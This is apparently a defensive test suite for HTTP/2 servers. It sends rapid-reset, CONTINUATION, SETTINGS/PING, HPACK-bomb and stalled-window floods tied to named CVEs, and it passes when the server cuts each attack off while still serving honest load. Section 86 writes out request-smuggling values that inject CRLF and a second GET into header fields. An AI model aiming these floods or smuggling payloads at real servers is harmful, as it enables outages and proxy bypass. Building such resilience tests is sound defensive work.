"""What costs a client little and a server much, over HTTP/2, and honest load that looks alike.

    attacks.py PROGRAM [PATTERN...]          starts PROGRAM; only the cases whose title begins so
    attacks.py --at HOST:PORT [PATTERN...]   against a server that runs, with the files of common.make_root

An attack is bounded, in frames and in time. It is to be ended by the server, in most cases with GOAWAY
ENHANCE_YOUR_CALM; meanwhile another client is served, and the server's memory stays what it was. Each
limit has its counterpart: load that keeps below it and is served to the end. Exit status: 0 as
expected; 1 not so; 2 wrong usage; 3 it could not be run.
"""

import time

from client import connect
from common import (ACK, END_HEADERS, MAX_WINDOW, MIB, PADDED, Error, Kind, Setting, block, case, continuation, data,
                    expect, frame, headers, integer, literal, main, ping, priority, request, rst_stream, settings,
                    window_update)
from websocket_client import BINARY, TEXT, Tunnel, connect_fields, close
from websocket_client import frame as message

WINDOW = Setting.INITIAL_WINDOW_SIZE
CALM = (Error.ENHANCE_YOUR_CALM,)
# A stream error may be taken for one of the connection (RFC 9113 section 5.4.1).
AT_ONCE = (Error.ENHANCE_YOUR_CALM, Error.PROTOCOL_ERROR)
GET, LARGE = block(*request()), block(*request("/large.bin"))
# Memory that may come on top, in bytes.
GROWTH = 16 * MIB


class Watch:
    """Memory of the server, and another client that is served meanwhile."""

    def __init__(self, server, growth=GROWTH):
        self.server, self.growth, self.other = server, growth, connect(server)
        self.other.serves()
        self.before, self.most, self.begun = server.memory(), 0, time.monotonic()

    def __enter__(self):
        return self

    def __exit__(self, _, error, __):
        if error is None:
            self.look()
        self.other.socket.close()

    def look(self):
        self.other.serves()
        self.most = max(self.most, self.server.memory() - self.before)
        expect(self.most <= self.growth, f"the server took {self.most >> 10} KiB more")

    def __str__(self):
        return f"{time.monotonic() - self.begun:.1f} s, {self.most >> 10} KiB more"


def attack(title, make, count, codes=CALM, ours=(), before=None, spared=False):
    """Sends what `make(connection, number)` returns, up to `count` times, until GOAWAY or the end.

    `spared`: what costs the server next to nothing may be taken to the end.
    """
    row, name = title.split(" ", 1)

    @case(row, name)
    def run(server):
        with Watch(server) as watch, connect(server, *ours) as attacker:
            state = before(attacker) if before else None
            sent = 0
            while sent < count and not attacker.closed and not attacker.goaways:
                attacker.send(make(attacker, state) if before else make(attacker))
                sent += 1
                if sent % 100 == 0:
                    watch.look()
            if spared and sent == count and not attacker.closed and not attacker.goaways:
                attacker.serves()
                said = "taken"
            else:
                said = attacker.fails(*codes)
            watch.look()
            return f"{said} after {sent} of {count}, {watch}"


def opened(connection, encoded, end=True, method="GET"):
    """A stream and its HEADERS; what comes of it is not judged."""
    stream = connection.stream(method)
    stream.cancelled = True
    return stream.number, headers(stream.number, encoded, end=end)


def reset_by_us(encoded, end=True):
    """A hundred requests, each cancelled in the same write."""
    def make(connection):
        pieces = []
        for _ in range(100):
            number, piece = opened(connection, encoded, end)
            pieces += [piece, rst_stream(number)]
        return b"".join(pieces)
    return make


def provoked(encoded, *pieces, end=True):
    """Ten requests, each with frames after it that make the server reset the stream."""
    def make(connection):
        made = []
        for _ in range(10):
            number, piece = opened(connection, encoded, end)
            made += [piece, *(one(number) for one in pieces)]
        return b"".join(made)
    return make


# 81: rapid reset (CVE-2023-44487), and resets that the server is made to send (CVE-2025-8671).

HELD = ((WINDOW, 0),)
POST = block(*request(method="POST"))
attack("81 rapid reset: requests that are cancelled at once", reset_by_us(LARGE), 1000)
# Without a window: what is answered before its reset comes was no request to be cancelled.
attack("81 rapid reset of small requests", reset_by_us(GET), 1000, CALM, HELD)
attack("81 rapid reset of uploads", reset_by_us(POST, end=False), 1000)
attack("81 rapid reset of WebSockets", reset_by_us(block(*connect_fields("/echo")), end=False), 1000)
attack("81 provoked resets: WINDOW_UPDATE of 0", provoked(LARGE, lambda one: window_update(one, 0)), 1000, AT_ONCE, HELD)
attack("81 provoked resets: a window beyond 2^31-1",
       provoked(LARGE, lambda one: window_update(one, MAX_WINDOW), lambda one: window_update(one, MAX_WINDOW)), 1000,
       (*CALM, Error.FLOW_CONTROL_ERROR), HELD)
attack("81 provoked resets: DATA on a half-closed stream", provoked(LARGE, lambda one: data(one, b"x")), 1000,
       (*CALM, Error.STREAM_CLOSED), HELD)
attack("81 provoked resets: HEADERS on a half-closed stream", provoked(LARGE, lambda one: headers(one, literal("a", "b"))), 1000,
       (*AT_ONCE, Error.STREAM_CLOSED), HELD)
attack("81 provoked resets: PRIORITY of 4 bytes", provoked(LARGE, lambda one: frame(Kind.PRIORITY, 0, one, bytes(4))), 1000,
       (*CALM, Error.FRAME_SIZE_ERROR), HELD)
attack("81 provoked resets: content-length differs",
       provoked(block(*request("/small.txt", ("content-length", "5"), method="POST")), lambda one: data(one, b"123456", end=True),
                end=False), 1000, AT_ONCE)
attack("81 provoked resets: malformed requests", provoked(block(*request("/small.txt", ("Upper", "x")))), 1000, AT_ONCE)
attack("81 provoked resets: more streams than are allowed", provoked(LARGE), 1000, (*AT_ONCE, Error.REFUSED_STREAM), HELD)

# 82: CONTINUATION (CVE-2024-27316).

def begun(connection, more=b""):
    number, _ = opened(connection, GET)
    connection.send(headers(number, GET + more, flags=0))
    return number


def whole_block(connection):
    number, _ = opened(connection, GET)
    yield headers(number, GET, flags=0)
    for last in range(64):
        yield continuation(number, literal("x", "v" * 16000), END_HEADERS if last == 63 else 0)


ENDLESS = (*AT_ONCE, Error.COMPRESSION_ERROR, Error.FRAME_SIZE_ERROR)
attack("82 CONTINUATION without an end, full of fields", lambda _, one: continuation(one, literal("x", "v" * 16000), 0), 5000,
       ENDLESS, before=begun)
attack("82 CONTINUATION without an end, one field in all of them", lambda _, one: continuation(one, bytes(16000), 0), 5000,
       ENDLESS, before=lambda connection: begun(connection, b"\x00\x01x" + integer(1 << 27, 7)))
attack("82 empty CONTINUATION frames", lambda _, one: continuation(one, b"", 0) * 1000, 1000, ENDLESS, before=begun)
attack("82 CONTINUATION frames of a byte", lambda _, one: b"".join(continuation(one, b"\x90", 0) for _ in range(100)), 1000, ENDLESS,
       before=begun)
attack("82 field blocks of 1 MiB that end, one after the other",
       lambda connection: b"".join(whole_block(connection)), 300, ENDLESS)


# 83: floods (CVE-2019-9512 to 9518).

def many(piece, count=1000):
    return lambda *_: piece * count


def acknowledged(piece, count=100):
    def make(connection, *_):
        connection.pending.extend(() for _ in range(count))
        return piece * count
    return make


def tunnel(connection):
    return Tunnel(connection, "/echo").opened().stream.number


attack("83 SETTINGS, empty ones", acknowledged(settings()), 2000)
attack("83 SETTINGS of 2,700 parameters each", acknowledged(settings(*((WINDOW, number) for number in range(2700)))), 300)
attack("83 PING", many(ping()), 500)
attack("83 PRIORITY on idle streams", many(priority(99, 3)), 500)
attack("83 empty DATA on a WebSocket", lambda _, one: data(one) * 1000, 500, before=tunnel)
attack("83 empty DATA, padded, on a WebSocket", lambda _, one: data(one, b"\x00", flags=PADDED) * 1000, 500, before=tunnel)
attack("83 WINDOW_UPDATE of a byte each", many(window_update(0, 1)), 500, (*CALM,), spared=True)
attack("83 PING with ACK that answers nothing", many(ping(flags=ACK)), 500, spared=True)
attack("83 frames of unknown types", many(frame(0xFA, 0, 0)), 500, spared=True)
attack("83 RST_STREAM on a closed stream", lambda _, one: rst_stream(one) * 1000, 500, (*CALM, Error.STREAM_CLOSED), spared=True,
       before=lambda connection: connection.response(connection.get()).number)
attack("83 empty DATA of requests that are answered already", lambda _, one: data(one) * 1000, 500, (*CALM, Error.STREAM_CLOSED), spared=True,
       before=lambda connection: connection.response(connection.get()).number)


def deaf(name, make, count=300):
    """A client that never reads: what it would be answered may not pile up."""
    @case("83", f"{name}, and no answer is read")
    def run(server):
        with Watch(server) as watch, connect(server, receive_buffer=8192) as attacker:
            sent = 0
            try:
                while sent < count and not attacker.unsent:
                    attacker.send(make(attacker), limit=1.5, reading=False)
                    sent += 1
                    if sent % 20 == 0:
                        watch.look()
                said = "cut off" if attacker.unsent else "all taken"
            except TimeoutError:
                said = "held up"
            watch.look()
            return f"{said} after {sent} of {count}, {watch}"


def requests(encoded):
    return lambda connection: b"".join(opened(connection, encoded)[1] for _ in range(500))


deaf("PING", many(ping(), 10_000))
deaf("SETTINGS", many(settings(), 10_000))
deaf("requests", requests(GET))
deaf("requests that are malformed", requests(block(*request("/small.txt", ("Upper", "x")))))
deaf("requests for files that are not there", requests(block(*request("/nothing"))))

# 84: HPACK.


def bomb(name, first, encoded):
    @case("84", name)
    def run(server):
        with Watch(server) as watch, connect(server) as attacker:
            attacker.response(attacker.get("/small.txt"))
            stream = attacker.stream()
            attacker.send(headers(stream.number, GET + first))
            attacker.until(lambda: stream.over or attacker.closed, "an answer")
            said = set()
            for _ in range(100):
                stream = attacker.stream()
                attacker.send(headers(stream.number, GET + encoded))
                attacker.until(lambda: stream.over or attacker.closed, "an answer", limit=20)
                if attacker.closed:
                    said.add(attacker.fails(Error.ENHANCE_YOUR_CALM, Error.PROTOCOL_ERROR, Error.COMPRESSION_ERROR))
                    break
                expect(stream.status in (431, 400, None), f"{stream}")
                said.add(str(stream.status or Error(stream.reset).name))
            watch.look()
            return f"{', '.join(sorted(said))}, {watch}"


bomb("16,000 references to an entry of 4,000 bytes", literal("x", "v" * 4000, 0x40), b"\xbe" * 16_000)
bomb("16,000 references to a small entry", literal("x", "", 0x40), b"\xbe" * 16_000)
bomb("16,000 crumbs of a cookie", literal("cookie", "v" * 1000, 0x40), b"\xbe" * 16_000)
bomb("16,000 fields of the static table", b"", b"\x90" * 16_000)
bomb("5,000 entries that evict each other", b"", b"\x40\x01a\x00" * 4_000)


@case("84", "a field block of 16,000 size updates")
def _(server):
    with Watch(server) as watch, connect(server) as attacker:
        stream = attacker.stream()
        attacker.send(headers(stream.number, b"\x20\x3f\xe1\x1f" * 4000 + GET))
        attacker.until(lambda: stream.over or attacker.closed, "an answer")
        return f"{stream}, {attacker}, {watch}"


@case("84", "HTTP/2 bomb: a hundred large field sections on streams that are kept waiting, on ten connections")
def _(server):
    with Watch(server, growth=4 * GROWTH) as watch:
        attackers = [connect(server, (WINDOW, 0)) for _ in range(10)]
        fields = block(*request("/large.bin", *((f"x-{number}", "v" * 1000) for number in range(11))))
        for attacker in attackers:
            for _ in range(100):
                attacker.send(opened(attacker, fields)[1])
            attacker.sync()
        watch.look()
        for attacker in attackers:
            attacker.socket.close()
        return str(watch)


# 85: windows that are withheld.

def stalled(name, drip, *ours):
    """A hundred streams of a file, and `drip` sends what is to look like progress."""
    @case("85", name, "--write-timeout", 2)
    def run(server):
        with Watch(server, growth=2 * GROWTH) as watch, connect(server, *ours, refill=False) as attacker:
            streams = [attacker.get("/large.bin") for _ in range(100)]
            while not attacker.closed and not all(stream.over for stream in streams):
                if attacker.goaways:
                    attacker.fails(Error.NO_ERROR, Error.ENHANCE_YOUR_CALM, Error.CANCEL, Error.PROTOCOL_ERROR)
                    break
                expect(time.monotonic() - watch.begun < 25, f"{sum(not one.over for one in streams)} streams wait on; {attacker}")
                attacker.send(*drip(attacker, streams))
                deadline = time.monotonic() + 0.05  # the pace of the drip: 20 bytes a second
                while time.monotonic() < deadline and not attacker.closed:
                    try:
                        attacker.turn(deadline)
                    except TimeoutError:
                        pass
            resets = {Error(stream.reset).name for stream in streams if stream.reset is not None}
            return f"{attacker}, {', '.join(resets) or 'no RST_STREAM'}, {watch}"


def drip_streams(attacker, streams):
    for stream in streams:
        if not stream.over:
            stream.window += 1
            yield window_update(stream.number, 1)
    attacker.window += 100
    yield window_update(0, 100)


def drip_connection(attacker, streams):
    attacker.window += 1
    yield window_update(0, 1)


stalled("a hundred files, and no window", lambda *_: (), (WINDOW, 0))
stalled("a hundred files, and windows that grow by single bytes", drip_streams, (WINDOW, 0))
stalled("a hundred files, and the connection's window grows by single bytes", drip_connection, (WINDOW, 1 << 20))
stalled("a hundred files, no window, and PINGs", lambda *_: (ping(),), (WINDOW, 0))


@case("85", "honest: a slow reader, 50 KB a second, keeps its stream beyond the write timeout", "--write-timeout", 2)
def _(server):
    with connect(server, (WINDOW, 10_000), refill=False) as connection:
        stream, begun = connection.get("/medium.bin"), time.monotonic()
        while not stream.over and not connection.closed:
            before = len(stream.data)
            connection.until(lambda: len(stream.data) > before or stream.over, "more of a file")
            time.sleep(0.2)  # the reader's pace is what this is about
            connection.window += 10_000
            stream.window += 10_000
            if not stream.over:
                connection.send(window_update(0, 10_000), window_update(stream.number, 10_000))
        expect(len(stream.data) == 300_000 and stream.ended, f"{stream}; {connection}")
        return f"{time.monotonic() - begun:.1f} s"


# 86: what a translation to HTTP/1.1 could make of a request.

SMUGGLED = "x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /hundred.txt HTTP/1.1\r\nHost: a"
for what, fields in (
        ("a value", request("/small.txt", ("x", SMUGGLED))), ("a name", request("/small.txt", (SMUGGLED, "x"))),
        ("a name with a colon", request("/small.txt", ("transfer-encoding:chunked", "x"))),
        (":path", request("/small.txt HTTP/1.1\r\nX: " + SMUGGLED)), (":method", request(method="GET /hundred.txt HTTP/1.1\r\nX: x\r\n\r\nGET")),
        (":authority", request(authority="a\r\n" + SMUGGLED)), (":scheme", request(scheme="http://a/hundred.txt?")),
        ("a second :path", request() + [(":path", "/hundred.txt")]), ("transfer-encoding", request("/small.txt", ("transfer-encoding", "chunked"))),
        ("connection", request("/small.txt", ("connection", "x-secret"), ("x-secret", "1"))), ("te", request("/small.txt", ("te", "chunked"))),
        ("two content-lengths", request("/small.txt", ("content-length", "0"), ("content-length", "5"), method="POST"))):
    @case("86", f"smuggling by {what}")
    def _(server, fields=fields):
        with connect(server) as connection:
            return connection.resets(connection.ask(fields), Error.PROTOCOL_ERROR, statuses=(400,))


# Load that is heavy and honest.

def honest(name, *options):
    return case("honest", name, *options)


@honest("500 downloads that are cancelled when they have begun, in 5 seconds")
def _(server):
    with connect(server) as connection:
        for _ in range(500):
            stream = connection.get("/large.bin")
            connection.until(lambda: stream.data, "some of a file")
            connection.cancel(stream)
            time.sleep(0.01)  # the rate is what this is about
        return connection.serves()


@honest("a page of 90 files that is left: all cancelled at once, ten times a second apart")
def _(server):
    with connect(server) as connection:
        for _ in range(3):
            streams = [connection.get("/medium.bin") for _ in range(30)]
            connection.until(lambda: all(stream.headers for stream in streams), "30 answers")
            for stream in streams:
                if not stream.over:
                    connection.cancel(stream)
            connection.serves()
            time.sleep(1)
        return connection.serves()


@honest("100 PINGs at once, 50 SETTINGS one after the other, 10 PRIORITY at the start")
def _(server):
    with connect(server) as connection:
        connection.send(*(priority(number, 0, 100) for number in (3, 5, 7, 9, 11, 13, 15, 17, 19, 21)))
        connection.send(ping() * 100)
        connection.until(lambda: len(connection.pongs) == 100, "100 answers")
        for number in range(50):
            connection.send(connection.settings((WINDOW, 60_000 + number)))
            connection.until(lambda: not connection.pending, "an acknowledgement")
            connection.serves()
        return connection.serves()


@honest("10,000 requests on one connection, 50 at a time")
def _(server):
    with connect(server) as connection:
        for _ in range(200):
            streams = [connection.stream() for _ in range(50)]
            connection.send(*(headers(stream.number, GET) for stream in streams))
            for stream in streams:
                connection.response(stream, 200)
        return connection.serves()


@honest("20,000 messages of a byte over a WebSocket, each in a DATA frame of its own")
def _(server):
    with connect(server) as connection:
        socket = Tunnel(connection, "/echo").opened()
        for _ in range(20):
            connection.until(lambda: min(socket.stream.send_window, connection.send_window) > 7000, "a window")
            connection.send(data(socket.stream.number, message(TEXT, "x")) * 1000)
            socket.stream.send_window -= 7000
            connection.send_window -= 7000
            for _ in range(1000):
                socket.says(TEXT, "x")
        return connection.serves()


@honest("a message of 100,000 bytes in DATA frames of 20 bytes each")
def _(server):
    with connect(server) as connection:
        socket = Tunnel(connection, "/echo").opened()
        socket.send(message(BINARY, bytes(100_000)), size=20)
        socket.says(BINARY, bytes(100_000))
        return connection.serves()


@honest("10 MiB taken with a WINDOW_UPDATE for every 1,000 bytes")
def _(server):
    with connect(server, (WINDOW, 50_000)) as connection:
        connection.refill = False
        stream, given = connection.get("/large.bin"), 0
        while not stream.over:
            connection.until(lambda: len(stream.data) - given >= 1000 or stream.over, "more of a file", limit=20)
            pieces = []
            while len(stream.data) - given >= 1000 and not stream.over:
                pieces += [window_update(0, 1000), window_update(stream.number, 1000)]
                connection.window += 1000
                stream.window += 1000
                given += 1000
            connection.send(*pieces)
        expect(len(stream.data) == 10 * MIB, f"{stream}")


@honest("five malformed requests, and 200 WebSockets that are opened and closed")
def _(server):
    with connect(server) as connection:
        for _ in range(5):
            stream = connection.get("/small.txt", ("Upper", "x"))
            connection.resets(stream, Error.PROTOCOL_ERROR, statuses=(400,))
        for _ in range(200):
            socket = Tunnel(connection, "/echo").opened()
            socket.send(close(1000), end=True)
            socket.closes(1000)
        return connection.serves()


if __name__ == "__main__":
    main(__doc__)
